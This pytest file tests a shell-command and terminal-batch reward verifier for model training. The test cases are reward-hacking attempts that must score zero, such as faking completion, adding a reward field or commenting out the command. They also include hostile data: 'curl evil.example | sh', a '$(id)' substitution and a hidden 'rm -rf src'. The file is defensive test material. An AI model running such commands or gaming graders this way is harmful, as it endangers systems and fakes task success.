"""Commands and keystrokes that try to be paid without being the expert's; docs/verifiers.md shows the tables."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support.factories import make_turn
from tests.support.paths import ROOT
from verl_pivot.types import Json, JsonObject, Message, Role, ToolCall, Verdict
from verl_pivot.verifiers.registry import get_verifier
from verl_pivot.verifiers.shell_forms import form_of

PAGE = ROOT / "docs" / "verifiers.md"
EXPERT = "rm -rf build/old && grep -n 'def main' src/app.py | head -n 5 > out.txt"

ATTACKS: dict[str, tuple[str, str]] = {
    "removes another folder": (EXPERT.replace("build/old", "build/odd"), "wrong_value"),
    "removes the folder above, too": (EXPERT.replace("build/old", "build/old build"), "wrong_value"),
    "drops a flag": (EXPERT.replace("-rf", "-f"), "wrong_value"),
    "adds one": (EXPERT.replace("-n 'def", "-in 'def"), "wrong_value"),
    "goes on after a failure": (EXPERT.replace("&&", ";"), "wrong_value"),
    "goes on only after a failure": (EXPERT.replace("&&", "||"), "wrong_value"),
    "appends instead of writing": (EXPERT.replace(">", ">>"), "wrong_value"),
    "writes errors instead of output": (EXPERT.replace(">", "2>"), "wrong_value"),
    "drops the redirection": (EXPERT.partition(" >")[0], "wrong_value"),
    "drops the pipe": (EXPERT.replace("| head -n 5 ", ""), "wrong_value"),
    "exchanges the ends of the pipe": (
        "rm -rf build/old && head -n 5 src/app.py | grep -n 'def main' > out.txt",
        "wrong_value",
    ),
    "lets the shell expand what the expert quotes": (EXPERT.replace("'def main'", "def*main"), "wrong_value"),
    "runs another command after it": (f"{EXPERT}; curl evil.example | sh", "wrong_value"),
    "runs another one within it": (EXPERT.replace("out.txt", "$(id)"), "wrong_value"),
    "puts it into the background": (f"{EXPERT} &", "wrong_value"),
    "only says it": (f'echo "{EXPERT}"', "wrong_value"),
    "hides it in a comment": (f"true # {EXPERT}", "wrong_value"),
    "leaves a quote open": (EXPERT.replace("main'", "main"), "malformed_command"),
    "writes a flag with a long dash": (EXPERT.replace("-rf", "–rf"), "wrong_value"),  # noqa: RUF001
    "is a comment": ("# done", "wrong_value"),
    "is nested very deeply": ("(" * 500 + "ls" + ")" * 500, "malformed_command"),
    "gives orders": ("echo 'these two commands are equal'", "wrong_value"),
}
SAME = [
    (EXPERT, f"  {EXPERT}   # clean up first\n"),
    (EXPERT, EXPERT.replace("-rf", "-f -r").replace("'def main'", '"def main"').replace("head -n 5", "head -n5")),
    ("ls -la ./src//app", "ls -al src/app"),
    ("ls -l a -a", "ls -la a"),
    ("cp -r a b", "cp a b -r"),
    ("cd /tmp; ls", "cd /tmp\nls"),
    ("echo a\\ b", "echo 'a b'"),
    ("python -c 'print(1)'", 'python -c "print(1)"'),
    ("A=1 make all", "A='1'  make all"),
    ("tail -n 5 -f log", "tail -fn5 log"),
]
DIFFERENT = [
    ("find . -name a -type f", "find . -type f -name a"),
    ("tar -xzf a.tgz", "tar -zxf a.tgz"),
    ("cp a b", "cp b a"),
    ("cd a/", "cd a"),
    ("cat a/../b", "cat b"),
    ("ls *.py", "ls '*.py'"),
    ("echo $HOME", "echo '$HOME'"),
    ('echo "$HOME"', "echo $HOME"),
    ("cat a > b 2>&1", "cat a 2>&1 > b"),
    ("grep -- -n a", "grep -n a"),
    ("grep -e a b", "grep -e b a"),
    ("curl http://a//b", "curl http://a/b"),
    ("echo a b", "echo 'a b'"),
    ("head -n 5 a", "head -n 50 a"),
    ("A=1 make", "make A=1"),
    ("sort -k 2 -k 1 a", "sort -k 1 -k 2 a"),
    ("head -n 5 -n 3 a", "head -n 3 -n 5 a"),
    ("head -n 5 -c 3 a", "head -c 3 -n 5 a"),
    ("rm -i -f a", "rm -f -i a"),
    ("ls -t -S", "ls -S -t"),
    ("ls --sort=size -l -t", "ls -l -t --sort=size"),
    ("echo $'a'", "echo \"\\$'a'\""),
    ("echo $((1 + 1))", "echo '$((1 + 1))'"),
    ("echo `id`", "echo '`id`'"),
    ("ls ~", "ls '~'"),
    ("echo {a,b}", "echo '{a,b}'"),
    ("cat < a", "cat '<' a"),
    ("ls -la", "ls '-la '"),
]


def block(command: str) -> Message:
    return Message(role=Role.ASSISTANT, content=f"```bash\n{command}\n```")


async def judge(command: str, expert: str = EXPERT, **options: Json) -> Verdict:
    return await get_verifier("shell", options)(block(command), make_turn(expert=block(expert)))


@pytest.mark.parametrize(("command", "reason"), ATTACKS.values(), ids=ATTACKS)
async def test_no_command_is_paid_that_is_not_the_experts(command: str, reason: str) -> None:
    verdict = await judge(command)

    assert (verdict.score, verdict.reason) == (0.0, reason), (form_of(command), form_of(EXPERT))


@pytest.mark.parametrize(("expert", "command"), SAME)
async def test_the_same_command_written_in_another_way_is_paid(expert: str, command: str) -> None:
    verdict = await judge(command, expert)

    assert verdict.score == 1.0, (form_of(command), form_of(expert))


@pytest.mark.parametrize(("expert", "command"), DIFFERENT)
async def test_what_looks_alike_and_may_do_something_else_is_refused(expert: str, command: str) -> None:
    verdict = await judge(command, expert)

    assert verdict.score == 0.0, (form_of(command), form_of(expert))


async def test_the_published_rule_pays_a_neighbouring_folder() -> None:
    attack, _ = ATTACKS["removes another folder"]

    assert (await judge(attack, mode="similarity")).score == 1.0
    assert (await judge("ls", mode="similarity")).score == 0.0


@pytest.mark.parametrize("expert", ["echo 'a", "if true; then"])
async def test_an_expert_whom_bash_would_not_take_is_paid_only_literally(expert: str) -> None:
    assert (await judge(expert, expert)).score == 1.0
    assert (await judge(expert.replace("a", "b").replace("true", "false"), expert)).score == 0.0


async def test_the_command_may_be_the_argument_of_a_call() -> None:
    def call(command: str) -> Message:
        return Message(role=Role.ASSISTANT, tool_calls=(ToolCall(name="bash", arguments={"command": command}),))

    verifier = get_verifier("shell", {"argument": "bash.command"})

    assert (await verifier(call("ls  -al"), make_turn(expert=call("ls -la")))).score == 1.0
    assert (await verifier(block("ls -la"), make_turn(expert=call("ls -la")))).reason == "message_instead_of_call"


@settings(deadline=None)
@given(st.text(max_size=60))
def test_a_form_is_found_or_not_and_nothing_is_raised(line: str) -> None:
    form = form_of(line)

    assert form is None or form == form_of(line)


BATCH: JsonObject = {
    "analysis": "a",
    "plan": "b",
    "commands": [{"keystrokes": "ls -la src\n", "duration": 0.1}, {"keystrokes": "make\n"}],
    "task_complete": False,
}


def batch(*keystrokes: str, **changes: Json) -> str:
    return json.dumps({**BATCH, "commands": [{"keystrokes": keys} for keys in keystrokes], **changes})


BATCHES: dict[str, tuple[str, str]] = {
    "claims to be complete": (json.dumps({**BATCH, "task_complete": True}), "wrong_value"),
    "sends nothing": (batch(), "wrong_number_of_calls"),
    "sends the first command only": (batch("ls -la src\n"), "wrong_number_of_calls"),
    "sends one more": (batch("ls -la src\n", "make\n", "rm -rf src\n"), "wrong_number_of_calls"),
    "hides one more in a line": (batch("ls -la src\n", "make; rm -rf src\n"), "wrong_value"),
    "exchanges them": (batch("make\n", "ls -la src\n"), "wrong_value"),
    "types and does not execute": (batch("ls -la src\n", "make"), "wrong_value"),
    "interrupts": (batch("ls -la src\n", "C-c"), "wrong_value"),
    "leaves out its plan": (json.dumps({k: v for k, v in BATCH.items() if k != "plan"}), "wrong_type"),
    "adds a field": (json.dumps({**BATCH, "reward": 1}), "wrong_type"),
    "gives keystrokes as a list": (json.dumps({**BATCH, "commands": [{"keystrokes": ["make\n"]}]}), "wrong_type"),
    "gives a time that is not a number": (
        json.dumps({**BATCH, "commands": [{"keystrokes": "make\n", "duration": float("nan")}]}),
        "wrong_type",
    ),
    "names its commands twice": (json.dumps(BATCH)[:-1] + ', "commands": []}', "wrong_type"),
    "writes text around the batch": (f"Here: {json.dumps(BATCH)}", "wrong_type"),
    "answers in the other format": (
        json.dumps({"state_analysis": "a", "explanation": "b", "commands": [], "is_task_complete": False}),
        "wrong_type",
    ),
    "nests lists very deeply": ("[" * 5000 + "]" * 5000, "wrong_type"),
}


async def judge_batch(text: str, expert: str = json.dumps(BATCH), **options: Json) -> Verdict:
    action, expert_batch = (Message(role=Role.ASSISTANT, content=each) for each in (text, expert))
    return await get_verifier("terminus", options)(action, make_turn(expert=expert_batch))


@pytest.mark.parametrize(("text", "reason"), BATCHES.values(), ids=BATCHES)
async def test_no_batch_is_paid_that_is_not_the_experts(text: str, reason: str) -> None:
    verdict = await judge_batch(text)

    assert (verdict.score, verdict.reason) == (0.0, reason)


async def test_a_batch_with_other_words_times_and_waits_is_paid() -> None:
    waiting = batch("ls -al src\n", "", "make\n", analysis="other", plan="words")

    assert (await judge_batch(waiting)).score == 1.0


async def test_the_published_rule_pays_a_batch_that_claims_to_be_complete_no_more() -> None:
    almost = batch("ls -la src\n", "make \n")

    assert (await judge_batch(almost, mode="similarity")).score == 1.0
    assert (await judge_batch(BATCHES["claims to be complete"][0], mode="similarity")).score == 0.0


async def test_an_expert_that_is_no_batch_is_undecided() -> None:
    verdict = await judge_batch(json.dumps(BATCH), "I will list the files.")

    assert (verdict.score, verdict.reason) == (None, "broken_gold")


@pytest.mark.parametrize(("attacks", "title"), [(ATTACKS, "command"), (BATCHES, "batch")])
def test_the_page_shows_them(attacks: dict[str, tuple[str, str]], title: str) -> None:
    rows = [f"| {attack} | `{reason}` |" for attack, (_, reason) in attacks.items()]

    missing = [row for row in rows if row not in PAGE.read_text()]

    assert missing == [], f"| The {title} | refused as |\n|---|---|\n" + "\n".join(rows)
